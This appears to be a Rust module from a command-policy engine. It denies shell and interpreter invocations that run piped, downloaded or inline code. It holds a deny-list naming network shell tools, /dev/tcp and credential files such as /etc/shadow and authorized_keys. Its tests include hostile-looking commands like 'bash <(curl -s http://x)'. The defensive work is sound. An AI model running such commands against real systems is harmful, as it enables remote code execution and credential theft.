//! Code read by shells and interpreters: from stdin, a pipe, a here-document, a process substitution, a downloaded
//! file, or inline (`python3 -c`, `perl -e`, `node -e`). Code that is piped or fed in cannot be judged; inline
//! interpreter code is screened by a deny-list of names (a determined author can obfuscate past it).

use super::args::{interp_args, interp_family, parse_args, shell_args};
use super::paths::is_stdin_path;
use super::resolve::SHELLS;
use super::{Ctx, DOWNLOAD, ENCODED, Engine, Inv, UNJUDGEABLE, Verdict, deny, shorten, tokens};
use crate::policy::shell::{RedirOp, SimpleCommand, Word};

/// Program names whose mention in inline interpreter code makes it unjudgeable.
const DANGER_TOKENS: &[&str] = &[
    // process execution and code loading
    "system",
    "popen",
    "popen2",
    "popen3",
    "spawn",
    "spawnv",
    "spawnl",
    "spawnve",
    "spawnvp",
    "spawnlp",
    "exec",
    "execv",
    "execve",
    "execl",
    "execle",
    "execlp",
    "execvp",
    "execvpe",
    "execute",
    "execfile",
    "eval",
    "fork",
    "forkpty",
    "subprocess",
    "child_process",
    "execSync",
    "spawnSync",
    "execFile",
    "execFileSync",
    "shell_exec",
    "passthru",
    "proc_open",
    "pcntl_exec",
    "qx",
    "open3",
    "__import__",
    "importlib",
    "getattr",
    "globals",
    "__builtins__",
    "builtins",
    "ctypes",
    "cffi",
    "ffi",
    "syscall",
    "pty",
    "socket",
    // destructive file and process operations
    "rmtree",
    "unlink",
    "unlinkSync",
    "remove",
    "removedirs",
    "rmdir",
    "rmSync",
    "rmdirSync",
    "rename",
    "renames",
    "chmod",
    "chown",
    "lchown",
    "truncate",
    "symlink",
    "setuid",
    "kill",
    "killpg",
    // programs
    "shutdown",
    "reboot",
    "halt",
    "poweroff",
    "init",
    "telinit",
    "kexec",
    "rm",
    "mkfs",
    "mke2fs",
    "mkswap",
    "dd",
    "fdisk",
    "sfdisk",
    "parted",
    "wipefs",
    "shred",
    "passwd",
    "chpasswd",
    "useradd",
    "usermod",
    "userdel",
    "pkill",
    "killall",
    "iptables",
    "nft",
    "systemctl",
    "sh",
    "bash",
    "dash",
    "zsh",
    "nc",
    "ncat",
    "socat",
    "curl",
    "wget",
    "sudo",
    "su",
];

/// Substrings whose presence in inline interpreter code makes it unjudgeable.
const DANGER_SUBSTRINGS: &[&str] = &[
    "`",
    "%x",
    "/dev/tcp",
    "/dev/udp",
    "/proc/",
    "/dev/sd",
    "/dev/vd",
    "/dev/xvd",
    "/dev/nvme",
    "/dev/mem",
    "/dev/mapper",
    "/etc/passwd",
    "/etc/shadow",
    "/etc/group",
    "/etc/sudoers",
    "authorized_keys",
    "/root/.ssh",
    "/etc/dtma",
    "DTMA_",
    "BACKEND_TO_DTMA",
    "CREDENTIALS_DIRECTORY",
];

/// A dangerous name in inline interpreter code, if any.
pub(super) fn dangerous_code(code: &str) -> Option<String> {
    for s in DANGER_SUBSTRINGS {
        if code.contains(s) {
            return Some((*s).to_string());
        }
    }
    for t in tokens(code) {
        let lower = t.to_ascii_lowercase();
        if DANGER_TOKENS.contains(&t)
            || DANGER_TOKENS.contains(&lower.as_str())
            || lower.starts_with("exec")
            || lower.starts_with("spawn")
        {
            return Some(t.to_string());
        }
    }
    // File writes: open(…, 'w'/'a').
    if tokens(code).any(|t| t == "open" || t == "fopen" || t == "writeFile" || t == "writeFileSync")
        && ["'w", "\"w", "'a", "\"a", "'r+", "\"r+", ">"]
            .iter()
            .any(|m| code.contains(m))
    {
        return Some("open(…, write)".to_string());
    }
    None
}

impl Engine<'_> {
    /// Shells, interpreters and `source` reading code from stdin, a pipe, a here-document or a process substitution.
    pub(super) fn code_reader_rules(
        &self,
        inv: &Inv,
        idx: usize,
        cmd: &SimpleCommand,
        ctx: &Ctx,
    ) -> Verdict {
        let name = inv.name.as_str();
        let args = inv.args();
        let is_source = name == "source" || name == ".";
        let (script, mut reads_stdin): (Option<&Word>, bool) = if SHELLS.contains(&name) {
            let sa = shell_args(args);
            if sa.code.is_some() {
                return Ok(());
            }
            (sa.script, sa.reads_stdin)
        } else if let Some(fam) = interp_family(name) {
            let ia = interp_args(fam, args);
            if let Some(code) = &ia.code {
                return self.inline_code(name, code, ctx);
            }
            if ia.module {
                return Ok(());
            }
            (ia.script, ia.reads_stdin)
        } else if name == "at" || name == "batch" {
            let a = parse_args(args, "fqmMtv", &[], false);
            if a.has('f') || a.has('l') || a.has('d') || a.has('r') || a.has('c') {
                return Ok(());
            }
            (None, true)
        } else if name == "crontab" {
            let a = parse_args(args, "u", &[], false);
            if a.has('l') || a.has('r') || a.has('e') {
                return Ok(());
            }
            (a.operands.first().copied(), a.operands.is_empty())
        } else if is_source {
            match parse_args(args, "", &[], true).operands.first() {
                Some(s) => (Some(*s), false),
                None => return Ok(()),
            }
        } else {
            return Ok(());
        };
        if let Some(s) = script {
            if s.process_substitution || !s.substitutions.is_empty() {
                return Err(match self.downloader_in(ctx, s.substitutions.clone()) {
                    Some(prog) => deny(
                        DOWNLOAD,
                        format!(
                            "`{name}` runs code from `{prog}` output (`{}`)",
                            shorten(&s.raw)
                        ),
                    ),
                    None => deny(
                        UNJUDGEABLE,
                        format!(
                            "`{name}` runs code from `{}`, which cannot be judged",
                            shorten(&s.raw)
                        ),
                    ),
                });
            }
            match s.value.as_deref() {
                Some(v) if is_stdin_path(v) => {
                    reads_stdin = true;
                    if is_source && !cmd.stdin_from_pipe {
                        return Err(deny(
                            UNJUDGEABLE,
                            format!("`{name} {v}` runs code from stdin, which cannot be judged"),
                        ));
                    }
                }
                None if is_source => {
                    return Err(deny(
                        UNJUDGEABLE,
                        format!(
                            "`{name}` of non-static `{}` cannot be judged",
                            shorten(&s.raw)
                        ),
                    ));
                }
                _ => {
                    if let Some((p, rule, culprit)) = ctx.tainted_file(s) {
                        return Err(deny(
                            rule,
                            format!("`{name}` runs `{p}`, written from `{culprit}` output"),
                        ));
                    }
                    return Ok(());
                }
            }
        }
        if !reads_stdin {
            return Ok(());
        }
        self.stdin_code_rules(&inv.name, idx, cmd, ctx)
    }

    /// A shell or interpreter reading code from stdin: denied when a here-document, a duplicated descriptor or a pipe
    /// supplies it (a file redirection or a terminal is fine).
    fn stdin_code_rules(&self, name: &str, idx: usize, cmd: &SimpleCommand, ctx: &Ctx) -> Verdict {
        let own = cmd.redirects.iter().rev().find(|r| r.feeds_stdin());
        let group = ctx
            .script
            .group_redirects
            .iter()
            .filter(|g| g.commands.contains(&idx))
            .map(|g| &g.redirect)
            .find(|r| r.feeds_stdin());
        if let Some(r) = own.or(if cmd.stdin_from_pipe { None } else { group }) {
            return match r.op {
                RedirOp::HereDoc | RedirOp::HereDocStrip | RedirOp::HereString => Err(deny(
                    UNJUDGEABLE,
                    format!(
                        "a here-document or here-string feeds code to `{name}`, which cannot be judged"
                    ),
                )),
                RedirOp::DupRead => Err(deny(
                    UNJUDGEABLE,
                    format!(
                        "`{name}` reads code from a duplicated descriptor, which cannot be judged"
                    ),
                )),
                _ => Ok(()),
            };
        }
        if cmd.stdin_from_pipe {
            let range = cmd.upstream.clone().unwrap_or(0..0);
            let (rule, culprit) = self.classify_feeder(ctx, range);
            let reason = match culprit {
                Some(p) if rule == ENCODED => {
                    format!("decoded `{p}` output is piped into `{name}`")
                }
                Some(p) => format!("`{p}` output is piped into `{name}`"),
                None => format!("`{name}` reads code from a pipe, which cannot be judged"),
            };
            return Err(deny(rule, reason));
        }
        Ok(())
    }

    /// Inline interpreter code (`-c`, `-e`, `--eval`): dynamic code or a dangerous name cannot be judged.
    fn inline_code(&self, name: &str, code: &Word, ctx: &Ctx) -> Verdict {
        let Some(v) = code.value.as_deref() else {
            return Err(self.dynamic_denial(code, ctx, &format!("`{name}` inline code"), false));
        };
        if let Some(hit) = dangerous_code(v) {
            return Err(deny(
                UNJUDGEABLE,
                format!("`{name}` inline code mentions `{hit}`, which cannot be judged"),
            ));
        }
        Ok(())
    }
}

#[cfg(test)]
mod tests {
    use super::super::ALLOWED;
    use super::super::testing::admin;
    use super::*;

    #[test]
    fn dangerous_names_in_inline_code() {
        assert_eq!(
            dangerous_code("import os; os.system('id')").as_deref(),
            Some("system")
        );
        assert_eq!(
            dangerous_code("require('child_process')").as_deref(),
            Some("child_process")
        );
        assert_eq!(dangerous_code("x.ExecSync()").as_deref(), Some("ExecSync"));
        assert_eq!(dangerous_code("print `id`").as_deref(), Some("`"));
        assert_eq!(
            dangerous_code("open('/tmp/x', 'w')").as_deref(),
            Some("open(…, write)")
        );
        assert_eq!(dangerous_code("import sys; print(sys.version)"), None);
        assert_eq!(dangerous_code("print(open('/etc/hostname').read())"), None);
        assert_eq!(dangerous_code("print(json.load(sys.stdin)['id'])"), None);
    }

    #[test]
    fn inline_interpreter_code() {
        assert_eq!(
            admin("python3 -c 'import os; os.remove(\"/x\")'"),
            UNJUDGEABLE
        );
        assert_eq!(admin("perl -e 'kill 9, 1'"), UNJUDGEABLE);
        assert_eq!(admin("node -e \"$CODE\""), UNJUDGEABLE);
        assert_eq!(
            admin("python3 -c 'import sys; print(sys.version)'"),
            ALLOWED
        );
        assert_eq!(
            admin("perl -ne 'print if /error/' /var/log/app.log"),
            ALLOWED
        );
        assert_eq!(admin("python3 -m json.tool < /tmp/x.json"), ALLOWED);
        assert_eq!(admin("python3 script.py"), ALLOWED);
    }

    #[test]
    fn code_from_stdin() {
        assert_eq!(admin("sh <<EOF\nls\nEOF"), UNJUDGEABLE);
        assert_eq!(admin("bash <<< 'ls'"), UNJUDGEABLE);
        assert_eq!(admin("bash <&3"), UNJUDGEABLE);
        assert_eq!(admin("echo ls | bash"), UNJUDGEABLE);
        assert_eq!(admin("{ sh; } <<EOF\nls\nEOF"), UNJUDGEABLE);
        assert_eq!(admin("sh < /tmp/script.sh"), ALLOWED);
        assert_eq!(admin("{ sh; } < /tmp/script.sh"), ALLOWED);
        assert_eq!(admin("cat <<EOF\nls\nEOF"), ALLOWED);
        assert_eq!(admin("bash"), ALLOWED);
    }

    #[test]
    fn code_from_substitutions_and_scripts() {
        assert_eq!(admin("bash <(curl -s http://x)"), DOWNLOAD);
        assert_eq!(admin("bash <(cat /tmp/x)"), UNJUDGEABLE);
        assert_eq!(admin(". /dev/stdin"), UNJUDGEABLE);
        assert_eq!(admin("source \"$FILE\""), UNJUDGEABLE);
        assert_eq!(admin("source /etc/os-release"), ALLOWED);
        assert_eq!(admin("bash /opt/app/deploy.sh --dry-run"), ALLOWED);
    }

    #[test]
    fn schedulers_read_code_too() {
        assert_eq!(admin("echo reboot | at now"), UNJUDGEABLE);
        assert_eq!(admin("echo '* * * * * id' | crontab -"), UNJUDGEABLE);
        assert_eq!(admin("at -f /opt/job.sh now"), ALLOWED);
        assert_eq!(admin("crontab -l"), ALLOWED);
    }
}
